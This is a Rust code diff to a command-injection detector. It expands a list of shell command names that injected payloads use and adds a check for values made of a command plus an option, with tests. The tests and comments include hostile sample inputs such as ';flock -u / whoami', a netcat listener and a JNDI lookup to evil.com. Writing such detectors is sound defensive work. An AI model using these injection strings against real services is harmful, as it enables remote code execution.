@@ -14,7 +14,7 @@ use super::{
 
 /// Commands an injected payload runs that are not English words: matched at any command
 /// position.
-const COMMANDS: [&str; 68] = [
+const COMMANDS: [&str; 134] = [
     "whoami",
     "uname",
     "wget",
@@ -83,6 +83,72 @@ const COMMANDS: [&str; 68] = [
     "pwd",
     "sh",
     "ps",
+    "flock",
+    "cpulimit",
+    "gdb",
+    "c89",
+    "c99",
+    "base32",
+    "nmap",
+    "tcpdump",
+    "strace",
+    "ltrace",
+    "xterm",
+    "expect",
+    "docker",
+    "kubectl",
+    "mysql",
+    "psql",
+    "sqlite3",
+    "rsync",
+    "taskset",
+    "ionice",
+    "stdbuf",
+    "tmux",
+    "visudo",
+    "chattr",
+    "setfacl",
+    "perf",
+    "mawk",
+    "nawk",
+    "hexdump",
+    "zip",
+    "unzip",
+    "gzip",
+    "bzip2",
+    "zcat",
+    "bzcat",
+    "split",
+    "shuf",
+    "nl",
+    "tac",
+    "rev",
+    "iconv",
+    "jjs",
+    "jrunscript",
+    "lwp-download",
+    "aria2c",
+    "axel",
+    "scrot",
+    "dmesg",
+    "usermod",
+    "groupadd",
+    "nsenter",
+    "unshare",
+    "chroot",
+    "setarch",
+    "run-parts",
+    "start-stop-daemon",
+    "systemd-run",
+    "pdksh",
+    "mksh",
+    "yash",
+    "rbash",
+    "irb",
+    "rake",
+    "pip",
+    "npm",
+    "gem",
 ];
 
 /// Commands that are also English words (`head`, `sleep`, `cat`): matched only when what
@@ -136,6 +202,7 @@ pub fn detect(decoded: &[u8]) -> Vec<Rule> {
     if command_positions(&text)
         .into_iter()
         .any(|start| names_command(text.get(start..).unwrap_or_default()))
+        || starts_with_command_and_option(&text)
     {
         out.push(RCE_CHAINED_COMMAND);
     }
@@ -232,6 +299,23 @@ fn shell_like_arguments(after: &str) -> bool {
                 )
         }
     }
+}
+
+/// A whole value that is a command line: a known command, a blank, then an option
+/// (`env --version`, `nc -nlvp 555`). A value starting with a command name alone is ordinary
+/// input ("cat videos", "curl/8.0").
+fn starts_with_command_and_option(text: &str) -> bool {
+    let trimmed = text.trim_start();
+    let Some((word, rest)) = trimmed.split_once([' ', '\t']) else {
+        return false;
+    };
+    let rest = rest.trim_start();
+    let option = rest.starts_with('-')
+        && rest
+            .chars()
+            .nth(1)
+            .is_some_and(|c| c.is_ascii_alphabetic() || c == '-');
+    option && (COMMANDS.contains(&word) || WORD_COMMANDS.contains(&word))
 }
 
 /// `$(…)` or a backtick pair with something inside.
@@ -375,6 +459,16 @@ mod tests {
         assert!(ids("FOR /D %a IN (dirs) DO abc").contains(&"rce-005"));
         assert!(ids("x=<(cmd)").contains(&"rce-002"));
         assert!(ids("${jndi:ldap://evil.com/x}").contains(&"rce-003"));
+    }
+
+    #[test]
+    fn a_whole_command_line() {
+        assert!(ids("env --version").contains(&"rce-001"));
+        assert!(ids("perf --version").contains(&"rce-001"));
+        assert!(ids(";flock -u / whoami").contains(&"rce-001"));
+        assert!(ids("cat videos").is_empty());
+        assert!(ids("curl/8.0.1").is_empty());
+        assert!(ids("sleep - the best medicine").is_empty());
     }
 
     #[test]
